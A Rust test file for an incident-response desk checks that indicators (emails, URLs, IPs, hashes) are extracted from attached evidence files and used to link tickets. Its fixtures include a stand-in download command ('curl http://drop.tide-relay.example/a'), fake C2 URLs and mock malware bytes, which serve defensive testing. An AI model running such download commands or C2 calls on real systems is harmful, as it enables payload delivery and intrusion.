//! What evidence holds joins its ticket, once, whatever kind of file it is.

use flate2::{Compression, write::GzEncoder};
use midwatch_desk::evidence::About;
use midwatch_domain::actor::Actor;
use midwatch_domain::id::{EvidenceId, TicketNo};
use midwatch_domain::observable::{ObservableKey, Source};
use midwatch_domain::ticket::{DropObservable, Observe};
use midwatch_store::read::related::{Subject, related};
use midwatch_testkit::{Conditions, Engine, TestDesk, aside};
use std::io::Write as _;

midwatch_testkit::on_both_engines!(
    a_mail_gives_its_values_and_its_files,
    what_is_no_text_gives_only_its_hashes,
    packed_and_wide_texts_are_read,
    nothing_is_taken_twice_and_a_lost_file_holds_nobody_up,
    the_same_file_ties_tickets_with_one_reason,
);

fn mail() -> Vec<u8> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../fixtures/indicators/mail.eml"
    );
    std::fs::read(path).unwrap()
}

async fn attach(t: &TestDesk, number: TicketNo, name: &str, bytes: &[u8]) -> EvidenceId {
    let ben = t.as_(&t.cast.ben);
    let mut file = aside(|| t.desk.may_attach(&ben, number)).unwrap();
    file.write(bytes).unwrap();
    let about = About {
        name: name.into(),
        ..About::default()
    };
    let done = t
        .desk
        .attach(ben, number, file, about, Conditions::default());
    done.await.unwrap();
    t.ticket(number).evidence.last().unwrap().id.clone()
}

fn values(t: &TestDesk, number: TicketNo) -> Vec<String> {
    let ticket = t.ticket(number);
    let text = ticket.observables.keys().map(ToString::to_string);
    text.collect()
}

/// The values of a ticket that are no hashes.
fn said(t: &TestDesk, number: TicketNo) -> Vec<String> {
    let hash = |v: &String| {
        ["md5:", "sha1:", "sha256:"]
            .iter()
            .any(|k| v.starts_with(k))
    };
    let mut said: Vec<String> = values(t, number).into_iter().filter(|v| !hash(v)).collect();
    said.sort();
    said
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

async fn a_mail_gives_its_values_and_its_files(engine: Engine) {
    let t = TestDesk::new(engine).await;
    let number = t.open(&t.cast.ben, "A mail").await;
    let id = attach(&t, number, "mail.eml", &mail()).await;
    assert_eq!(t.desk.search_evidence().await.unwrap(), 1);
    let all = values(&t, number);
    for expected in [
        "email:accounts@tarnwick-freightdesk.com",
        "url:https://m.oysterbank-static.net/q/0917",
        "filename:Freight_Invoice_0917.js",
    ] {
        assert!(all.iter().any(|v| v == expected), "{expected} in {all:#?}");
    }
    let ticket = t.ticket(number);
    let from = |o: &midwatch_domain::observable::Observable| {
        o.source == Source::Evidence(id.clone()) && o.by == Actor::System
    };
    assert!(ticket.observables.values().all(from));
    let carried: Vec<_> = ticket
        .observables
        .iter()
        .filter(|(_, o)| o.note.contains("Freight_Invoice_0917.js"))
        .collect();
    assert_eq!(carried.len(), 3, "{carried:#?}");
    let sha256 = carried.iter().find(|(_, o)| o.same_as.is_none()).unwrap().0;
    let named = |o: &midwatch_domain::observable::Observable| o.same_as.as_ref() == Some(sha256);
    assert_eq!(carried.iter().filter(|(_, o)| named(o)).count(), 2);
}

async fn what_is_no_text_gives_only_its_hashes(engine: Engine) {
    let t = TestDesk::new(engine).await;
    let number = t.open(&t.cast.ben, "A program").await;
    let mut program: Vec<u8> = (0..200_000_u32)
        .map(|i| i.wrapping_mul(2_654_435_761).to_be_bytes()[0])
        .collect();
    program.splice(5000..5000, *b" http://c2.tide-relay.example/gate ");
    attach(&t, number, "invoice.pdf.exe", &program).await;
    attach(&t, number, "nothing.txt", b"").await;
    assert_eq!(t.desk.search_evidence().await.unwrap(), 2);
    assert_eq!(said(&t, number), [""; 0]);
    let kinds: Vec<&str> = t
        .ticket(number)
        .observables
        .keys()
        .map(|k| k.kind.as_str())
        .collect();
    assert_eq!(kinds.len(), 3, "{kinds:?}");
    // A text that becomes something else is read as far as it is one.
    let number = t.open(&t.cast.ben, "A script").await;
    let mut script = b"curl http://drop.tide-relay.example/a\n".repeat(4000);
    script.extend(&program);
    attach(&t, number, "install.sh", &script).await;
    t.desk.search_evidence().await.unwrap();
    assert!(said(&t, number).contains(&"url:http://drop.tide-relay.example/a".to_owned()));
    assert!(!said(&t, number).contains(&"url:http://c2.tide-relay.example/gate".to_owned()));
}

async fn packed_and_wide_texts_are_read(engine: Engine) {
    let t = TestDesk::new(engine).await;
    let number = t.open(&t.cast.ben, "Logs").await;
    attach(
        &t,
        number,
        "a.log.gz",
        &gz(b"10:00 login from 198.51.100.7\n"),
    )
    .await;
    let wide = "Beacon to hxxps://c2[.]tide-relay[.]example/gate".encode_utf16();
    let wide: Vec<u8> = wide.flat_map(u16::to_le_bytes).collect();
    attach(&t, number, "b.txt", &wide).await;
    // Packed without an end: what was there counts.
    let cut = gz(&b"11:00 login from 203.0.113.9\n".repeat(5000));
    attach(&t, number, "c.log.gz", &cut[..cut.len() - 12]).await;
    t.desk.search_evidence().await.unwrap();
    let expected = [
        "ipv4:198.51.100.7",
        "ipv4:203.0.113.9",
        "url:https://c2.tide-relay.example/gate",
    ];
    assert_eq!(said(&t, number), expected);
}

async fn nothing_is_taken_twice_and_a_lost_file_holds_nobody_up(engine: Engine) {
    let t = TestDesk::new(engine).await;
    let number = t.open(&t.cast.ben, "A list").await;
    attach(&t, number, "lost.txt", b"203.0.113.9").await;
    let sha256 = t.ticket(number).evidence[0].sha256.clone();
    std::fs::remove_file(t.desk.store.blobs().path(&sha256).unwrap()).unwrap();
    attach(
        &t,
        number,
        "list.txt",
        b"198.51.100.7 and c2.tide-relay.example",
    )
    .await;
    assert_eq!(t.desk.search_evidence().await.unwrap(), 2);
    assert_eq!(
        said(&t, number),
        ["domain:c2.tide-relay.example", "ipv4:198.51.100.7"]
    );
    let drop = DropObservable {
        kind: "ipv4".into(),
        value: "198.51.100.7".into(),
        reason: "Our own scanner".into(),
    };
    t.act(&t.cast.ben, number, drop).await.unwrap();
    assert_eq!(t.desk.search_evidence().await.unwrap(), 0);
    assert_eq!(said(&t, number), ["domain:c2.tide-relay.example"]);
}

async fn the_same_file_ties_tickets_with_one_reason(engine: Engine) {
    let t = TestDesk::new(engine).await;
    let sample = b"MZ\x00\x01\x02\x03 the very same sample".repeat(50);
    let (a, b, c) = (
        t.open(&t.cast.ben, "First").await,
        t.open(&t.cast.ben, "Something else entirely").await,
        t.open(&t.cast.ben, "What a report names").await,
    );
    attach(&t, a, "a.bin", &sample).await;
    attach(&t, b, "renamed.bin", &sample).await;
    t.desk.search_evidence().await.unwrap();
    let ticket = t.ticket(a);
    let md5 = ticket
        .observables
        .keys()
        .find(|k| k.kind.as_str() == "md5")
        .unwrap();
    let text = Some(format!("The report gives the MD5 {}.", md5.value));
    t.act(
        &t.cast.ben,
        c,
        Observe {
            text,
            ..Observe::default()
        },
    )
    .await
    .unwrap();
    let viewer = t.as_(&t.cast.ben);
    let found = t
        .read(|tx| {
            let directory = t.desk.store.directory(tx)?;
            related(tx, &viewer, &directory, &Subject::of(&ticket), t.now(), 10)
        })
        .unwrap();
    let reasons = |n: TicketNo| {
        let found = found.related.iter().find(|r| r.ticket.number == n).unwrap();
        let values = found.tie.reasons.iter().filter_map(|r| r.value.clone());
        values.collect::<Vec<ObservableKey>>()
    };
    assert_eq!(reasons(c), std::slice::from_ref(md5));
    let one = reasons(b);
    assert_eq!(
        (one.len(), one[0].value.as_str()),
        (1, ticket.evidence[0].sha256.as_str())
    );
}
